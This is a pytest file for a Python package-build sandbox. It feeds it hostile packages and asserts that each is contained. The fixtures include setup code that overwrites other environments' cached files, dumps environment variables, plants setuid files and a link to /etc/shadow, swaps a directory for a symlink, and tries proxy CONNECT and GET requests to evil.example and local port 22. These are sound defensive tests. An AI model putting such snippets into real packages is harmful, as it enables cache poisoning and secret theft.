from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from clawplane.builder.environments import EnvironmentCache
from clawplane.builder.errors import BuildFailed
from clawplane.builder.plan import plan_python


def ignore(line: str) -> None:
    pass


async def build(cache: EnvironmentCache, launcher: Any, requirements: str) -> Any:
    return await cache.ensure(plan_python(requirements.encode()), launcher=launcher, on_log=ignore)


def indented(code: str) -> str:
    return "".join(f"    {line}\n" for line in code.strip().splitlines())


async def test_a_pth_file_in_a_wheel_runs_neither_while_installing_nor_while_compiling(
    cache, launcher, index, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    files = {"evil.py": "", "evil.pth": f"import os; open({str(marker)!r}, 'w').close()\n"}
    index.add_wheel("evil", "1", files)
    environment = await build(cache, launcher, "evil==1")
    await cache.compile(environment, launcher=launcher)
    assert (environment.site_directories[0] / "evil.pth").exists()
    assert not marker.exists()


async def test_set_up_code_that_rewrites_every_cache_it_sees_harms_no_other_environment(cache, launcher, index) -> None:
    index.add_wheel("victim", "1", {"victim.py": "honest = True\n"})
    before = await build(cache, launcher, "victim==1")
    poison = """
import pathlib
for variable in ("UV_CACHE_DIR", "HOME"):
    for file in pathlib.Path(os.environ[variable]).parent.rglob("victim.py"):
        os.chmod(file, 0o644)
        open(file, "w").write("honest = False\\n")
"""
    index.add_source("evil", "1", indented(poison))
    await build(cache, launcher, "evil==1\nvictim==1")
    after = await build(cache, launcher, "victim==1\ngrpcio==1.85.1")
    for environment in (before, after):
        assert (environment.site_directories[0] / "victim.py").read_text() == "honest = True\n"


async def test_set_up_code_runs_only_where_its_own_build_is_all_that_can_be_written(
    cache, launcher, index, root: Path, tmp_path: Path
) -> None:
    report = tmp_path / "environment-seen"
    index.add_source("evil", "1", indented(f"open({str(report)!r}, 'w').write(repr(dict(os.environ)))"))
    await build(cache, launcher, "evil==1")
    seen = eval(report.read_text())
    (step,) = [
        step
        for step in launcher.steps
        if step.environment["HOME"] == seen["HOME"] and "--only-binary" not in step.argv and "install" in step.argv
    ]
    (writable,) = step.writable
    assert writable.parent == root / "work" / "building"
    assert Path(seen["UV_CACHE_DIR"]).is_relative_to(writable)
    assert all(Path(seen[name]).is_relative_to(writable) for name in ("HOME", "TMPDIR"))


async def test_wheels_are_tried_before_any_set_up_code_runs(cache, launcher, index, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    index.add_source("evil", "2", indented(f"open({str(marker)!r}, 'w').close()"))
    index.add_wheel("evil", "1")
    assert "evil==1" in (await build(cache, launcher, "evil")).lock
    assert not marker.exists()


async def test_an_unsolvable_plan_runs_no_set_up_code(cache, launcher, index, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    index.add_source("evil", "1", indented(f"open({str(marker)!r}, 'w').close()"))
    with pytest.raises(BuildFailed):
        await build(cache, launcher, "evil==1\nprotobuf==99")
    assert not marker.exists()


async def test_set_up_code_that_swaps_the_environment_for_a_link_gets_nothing_kept(
    cache, launcher, index, root: Path, tmp_path: Path
) -> None:
    secret = tmp_path / "secret"
    (secret / "lib").mkdir(parents=True)
    swap = f"""
import pathlib, shutil
tree = pathlib.Path(os.environ["HOME"]).parent / "tree"
shutil.copytree(tree, {str(secret)!r}, symlinks=True, dirs_exist_ok=True)
shutil.rmtree(tree)
tree.symlink_to({str(secret)!r})
"""
    index.add_source("evil", "1", indented(swap))
    with pytest.raises(BuildFailed):
        await build(cache, launcher, "evil==1")
    assert os.listdir(root / "environments") == []
    assert os.listdir(root / "work" / "building") == []
    assert secret.exists()


async def test_what_set_up_code_leaves_besides_files_is_not_kept(cache, launcher, index) -> None:
    mess = """
import pathlib
tree = pathlib.Path(os.environ["HOME"]).parent / "tree"
os.mkfifo(tree / "pipe")
(tree / "program").write_text("x")
os.chmod(tree / "program", 0o6777)
(tree / "shadow").symlink_to("/etc/shadow")
"""
    index.add_source("evil", "1", indented(mess))
    environment = await build(cache, launcher, "evil==1")
    assert not (environment.path / "pipe").exists()
    assert (environment.path / "program").stat().st_mode & 0o7777 == 0o555
    assert (environment.path / "shadow").is_symlink()


async def test_set_up_code_cannot_get_past_the_gate(cache, launcher, index, tmp_path: Path) -> None:
    answers = tmp_path / "answers"
    attack = f"""
import socket, urllib.parse
gate = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
def ask(text):
    with socket.create_connection((gate.hostname, gate.port), 5) as connection:
        connection.sendall(text.encode())
        return connection.recv(100).decode().split("\\r\\n")[0]
questions = ["CONNECT 127.0.0.1:22 HTTP/1.1", "CONNECT evil.example:443 HTTP/1.1", "GET http://evil.example/ HTTP/1.1",
             "POST {index.url}/ HTTP/1.1"]
open({str(answers)!r}, "w").write(repr([ask(line + "\\r\\n\\r\\n") for line in questions]))
"""
    index.add_source("evil", "1", indented(attack))
    await build(cache, launcher, "evil==1")
    refused = "HTTP/1.1 403 Forbidden"
    assert eval(answers.read_text()) == [refused, refused, refused, "HTTP/1.1 405 Method Not Allowed"]


async def test_the_trusted_warm_layer_never_takes_what_set_up_code_made(cache, launcher, index, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    index.add_source("grpcio", "9", indented(f"open({str(marker)!r}, 'a').write('ran')"))
    environment = await build(cache, launcher, "grpcio==9\ntyping-extensions==4.16.0\nprotobuf==7.36.2")
    assert environment.warm["grpcio"] == "9"
    assert marker.read_text() == "ran"
    with pytest.raises(BuildFailed, match="no usable wheels"):
        await cache.ensure_warm_layer(environment.warm, launcher=launcher)
    assert marker.read_text() == "ran"


async def test_the_warm_layer_holds_just_the_sdks_imports_compiled(cache, launcher, index) -> None:
    index.add_wheel("alpha", "1")
    environment = await build(cache, launcher, "alpha")
    layer = await cache.ensure_warm_layer(environment.warm, launcher=launcher)
    modules = sorted(path.stem for path in layer.glob("*.py"))
    assert modules == ["grpcio", "protobuf", "typing_extensions"]
    assert (layer / "__pycache__").is_dir()
    launcher.steps.clear()
    assert await cache.ensure_warm_layer(environment.warm, launcher=launcher) == layer
    assert launcher.steps == []


async def test_terminal_escapes_in_a_build_log_are_taken_out(cache, launcher, index) -> None:
    index.add_source("evil", "1", indented("sys.exit('\\x1b[2Jcleared \\x1b]0;title\\x07 and \\x9b31m')"))
    lines: list[str] = []
    with pytest.raises(BuildFailed) as caught:
        await cache.ensure(plan_python(b"evil==1"), launcher=launcher, on_log=lines.append)
    text = "\n".join(lines) + caught.value.message
    assert "cleared" in text
    assert not any(character in text for character in "\x1b\x9b\x07")
